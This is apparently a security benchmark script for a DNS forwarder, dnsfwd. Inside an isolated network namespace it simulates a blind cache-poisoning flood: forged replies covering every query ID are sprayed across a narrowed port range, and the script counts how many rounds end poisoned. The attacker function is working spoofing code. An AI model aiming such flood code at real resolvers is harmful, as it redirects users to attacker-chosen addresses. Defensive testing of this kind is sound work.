// The blind spoofing flood of issue 11 (item 6), re-run: rounds in which dnsfwd forwards a
// cache-miss query to a slowish upstream while an attacker floods forged replies at it, random IDs
// sprayed over every source port dnsfwd may be using; a round counts as poisoned when the client's
// answer or the cache (asked again after the flood) holds the forged address.
//
// Everything runs in a network namespace of its own (the script re-runs itself under `unshare
// --net`), where net.ipv4.ip_local_port_range is narrowed to BENCH_PORTS ports: the attacker knows
// the range, as the adversarial run knew the upstream socket's port, and can spray all of it. The
// forged replies come from the upstream's own address and port: the attacker's socket is bound to
// them (SO_REUSEADDR) before the upstream's, so the upstream still gets the queries. The attacker is
// blind: it knows the name it made dnsfwd ask (it asks it), never the query's ID, port or letter case.
//
// Run: npm run bench:spoof (as root; builds and bundles first). Environment: BENCH_ROUNDS (40),
// BENCH_PORTS (16), BENCH_DELAY_MS (1000: how long the upstream takes to answer, the attack
// window), BENCH_BATCH (256: forged datagrams sent per turn of the attacker's event loop).
import { spawn, type ChildProcess } from 'node:child_process';
import dgram from 'node:dgram';
import net from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { FrameReader, frame } from '../src/wire/framing.js';
import { startDnsfwd } from '../test/helpers/daemon.js';
import { requireRoot, requireTool } from '../test/helpers/tools.js';

const ROUNDS = Number(process.env.BENCH_ROUNDS ?? 40);
const PORTS = Number(process.env.BENCH_PORTS ?? 16);
const DELAY_MS = Number(process.env.BENCH_DELAY_MS ?? 1000);
const BATCH = Number(process.env.BENCH_BATCH ?? 256);
const LOW_PORT = 40000;
const UPSTREAM = { host: '127.0.0.2', port: 53 };
const LISTEN = { host: '127.0.0.1', port: 53 };
const CLIENT_PORT = 5300; // outside the narrowed range: all of it is left to dnsfwd
const REAL = [10, 0, 0, 1];
const FORGED = [10, 66, 6, 6];
const SELF = fileURLToPath(import.meta.url);

/** A wire-format name, as asked (lower case). */
const wireName = (name: string) => Buffer.from([...name.split('.').flatMap((l) => [l.length, ...Buffer.from(l, 'latin1')]), 0]);

/** A reply to `name` A IN with ID `id`: one A record, `address`, TTL 3600, owner a pointer to the question. */
function reply(id: number, name: Buffer, address: number[], rd = 1): Buffer {
  const header = Buffer.from([id >> 8, id & 0xff, 0x80 | rd, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
  const rr = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, ...address]);
  return Buffer.concat([header, name, Buffer.from([0, 1, 0, 1]), rr]);
}

// ---------------------------------------------------------------------------------------------
// The attacker: told a name and a duration on stdin, floods forged replies for that long.

async function attacker(): Promise<void> {
  const sock = dgram.createSocket({ type: 'udp4', reuseAddr: true });
  await new Promise<void>((r) => sock.bind(UPSTREAM.port, UPSTREAM.host, r));
  sock.on('message', () => {}); // queries that reach this socket are not the attacker's to read
  process.stdout.write('ready\n');
  let k = Math.floor(Math.random() * 65536 * PORTS); // where the sweep over (ID, port) starts
  for await (const line of createInterface({ input: process.stdin })) {
    const { name, ms } = JSON.parse(line) as { name: string; ms: number };
    // One forged datagram per ID, built once: the sweep sends them without touching their bytes.
    const wire = wireName(name);
    const forged = Array.from({ length: 65536 }, (_, id) => reply(id, wire, FORGED));
    const start = process.hrtime.bigint();
    const end = start + BigInt(ms) * 1_000_000n;
    let sent = 0;
    process.stdout.write('flooding\n');
    while (process.hrtime.bigint() < end) {
      for (let i = 0; i < BATCH; i++, k++) {
        sock.send(forged[Math.floor(k / PORTS) % 65536]!, LOW_PORT + (k % PORTS), LISTEN.host);
      }
      sent += BATCH;
      await new Promise((r) => setImmediate(r)); // let the sends complete
    }
    const seconds = Number(process.hrtime.bigint() - start) / 1e9;
    process.stdout.write(`${JSON.stringify({ sent, seconds })}\n`);
  }
}

// ---------------------------------------------------------------------------------------------
// The upstream: answers every query (UDP and TCP) with 10.0.0.1 after DELAY_MS, in the query's own
// spelling of the name; dnsfwd's loop probes get NXDOMAIN at once.

async function startUpstream(): Promise<() => void> {
  const answer = (q: Buffer): Buffer | null => {
    if (q.length < 17 || (q[2]! & 0x80) !== 0) return null;
    const end = q.indexOf(0, 12) + 5;
    const r = Buffer.from(q.subarray(0, end));
    r[2] = 0x80 | (q[2]! & 0x01);
    r[3] = 0x80;
    r.writeUInt16BE(0, 10); // no OPT record back
    if (q.subarray(13, 13 + 18).toString('latin1').toLowerCase() === 'dnsfwd-loop-probe-') {
      r[3] = 0x83;
      return r;
    }
    r.writeUInt16BE(1, 6);
    return Buffer.concat([r, Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, ...REAL])]);
  };
  const udp = dgram.createSocket({ type: 'udp4', reuseAddr: true });
  udp.on('message', (q, rinfo) => {
    const r = answer(q);
    if (r) setTimeout(() => udp.send(r, rinfo.port, rinfo.address), DELAY_MS);
  });
  await new Promise<void>((r) => udp.bind(UPSTREAM.port, UPSTREAM.host, r));
  const tcp = net.createServer((s) => {
    s.on('error', () => s.destroy());
    const frames = new FrameReader();
    s.on('data', (chunk) => {
      for (const q of frames.push(chunk)) {
        const r = answer(q);
        if (r) setTimeout(() => s.writable && s.write(frame(r)), DELAY_MS);
      }
    });
  });
  await new Promise<void>((r) => tcp.listen(UPSTREAM.port, UPSTREAM.host, r));
  return () => (udp.close(), tcp.close());
}

// ---------------------------------------------------------------------------------------------
// The rounds.

/** Sends `name` A from the client's socket; the A record's address in the answer, 'SERVFAIL' or the like, or 'none'. */
function ask(client: dgram.Socket, name: string, id: number): Promise<string> {
  const q = Buffer.concat([Buffer.from([id >> 8, id & 0xff, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), wireName(name), Buffer.from([0, 1, 0, 1])]);
  return new Promise((resolve) => {
    const timer = setTimeout(() => done('none'), 6000);
    const onMessage = (m: Buffer) => {
      if (m.readUInt16BE(0) !== id) return;
      const rcode = m[3]! & 0x0f;
      done(rcode !== 0 ? `rcode ${rcode}` : [...m.subarray(-4)].join('.'));
    };
    const done = (what: string) => {
      clearTimeout(timer);
      client.off('message', onMessage);
      resolve(what);
    };
    client.on('message', onMessage);
    client.send(q, LISTEN.port, LISTEN.host);
  });
}

function lines(child: ChildProcess): () => Promise<string> {
  const queue: string[] = [];
  const waiting: ((l: string) => void)[] = [];
  createInterface({ input: child.stdout! }).on('line', (l) => (waiting.length ? waiting.shift()!(l) : queue.push(l)));
  return () => (queue.length ? Promise.resolve(queue.shift()!) : new Promise((r) => waiting.push(r)));
}

async function sh(cmd: string, args: string[]): Promise<void> {
  const child = spawn(cmd, args, { stdio: 'inherit' });
  const code = await new Promise((r) => child.on('exit', r));
  if (code !== 0) throw new Error(`${cmd} ${args.join(' ')} failed (${code})`);
}

async function inNamespace(): Promise<void> {
  await sh('ip', ['link', 'set', 'lo', 'up']);
  await sh('ip', ['addr', 'add', `${UPSTREAM.host}/8`, 'dev', 'lo']).catch(() => {}); // 127/8 is all local already
  await sh('sysctl', ['-q', '-w', `net.ipv4.ip_local_port_range=${LOW_PORT} ${LOW_PORT + PORTS - 1}`]);
  // dnsfwd closes its TCP connections: TIME_WAIT would hold the few ports of the range a minute.
  await sh('sysctl', ['-q', '-w', 'net.ipv4.tcp_tw_reuse=1']);
  const attack = spawn(process.execPath, [...process.execArgv, SELF, 'attacker'], { stdio: ['pipe', 'pipe', 'inherit'] });
  const next = lines(attack);
  if ((await next()) !== 'ready') throw new Error('the attacker did not start');
  const stopUpstream = await startUpstream();
  const dir = mkdtempSync(join(tmpdir(), 'dnsfwd-spoof-flood-'));
  writeFileSync(join(dir, 'dnsfwd.yaml'), 'log_level: info\n');
  const daemon = await startDnsfwd(['--config', join(dir, 'dnsfwd.yaml'), '--listen', `${LISTEN.host}:${LISTEN.port}`, '--upstream', `${UPSTREAM.host}:${UPSTREAM.port}`, '--lease-file', '/nonexistent/dhclient.leases']);
  const client = dgram.createSocket('udp4');
  await new Promise<void>((r) => client.bind(CLIENT_PORT, '127.0.0.1', r));
  const tag = Math.random().toString(36).slice(2, 8);
  let poisoned = 0;
  let sent = 0;
  let seconds = 0;
  const outcomes: Record<string, number> = {};
  try {
    for (let round = 0; round < ROUNDS; round++) {
      const name = `poison${round}x${tag}.spoof.test`;
      attack.stdin!.write(`${JSON.stringify({ name, ms: DELAY_MS + 300 })}\n`);
      await next(); // 'flooding'
      const answer = await ask(client, name, 2 * round);
      const flood = JSON.parse(await next()) as { sent: number; seconds: number };
      sent += flood.sent;
      seconds += flood.seconds;
      const cached = await ask(client, name, 2 * round + 1);
      const bad = answer === FORGED.join('.') || cached === FORGED.join('.');
      if (bad) poisoned++;
      const key = `answer ${answer}, then ${cached}`;
      outcomes[key] = (outcomes[key] ?? 0) + 1;
      process.stderr.write(`round ${round + 1}/${ROUNDS}: ${key}${bad ? '  POISONED' : ''}\n`);
    }
  } finally {
    client.close();
    attack.kill();
    await daemon.stop();
    stopUpstream();
    rmSync(dir, { recursive: true, force: true });
  }
  const warnings = daemon.logs.filter((l) => typeof l.msg === 'string' && /forged|echo the letter case/.test(l.msg)).length;
  console.log(`poisoned rounds: ${poisoned} of ${ROUNDS}`);
  console.log(`outcomes: ${JSON.stringify(outcomes)}`);
  console.log(`forged replies: ${sent} in ${seconds.toFixed(1)} s of flood, ${Math.round(sent / seconds)} a second, over ${PORTS} ports (${LOW_PORT}-${LOW_PORT + PORTS - 1}), upstream delay ${DELAY_MS} ms`);
  console.log(`dnsfwd warnings about forged replies or case: ${warnings}`);
}

// ---------------------------------------------------------------------------------------------

if (process.argv[2] === 'attacker') {
  await attacker();
} else if (process.env.DNSFWD_SPOOF_NETNS === '1') {
  await inNamespace();
} else {
  requireRoot('the spoofing bench makes a network namespace and narrows its port range');
  for (const tool of ['unshare', 'setpriv', 'ip', 'sysctl']) requireTool(tool);
  const child = spawn('setpriv', ['--pdeathsig', 'KILL', 'unshare', '--net', process.execPath, ...process.execArgv, SELF], {
    stdio: 'inherit',
    env: { ...process.env, DNSFWD_SPOOF_NETNS: '1' },
  });
  process.exitCode = (await new Promise<number | null>((r) => child.on('exit', r))) ?? 1;
}
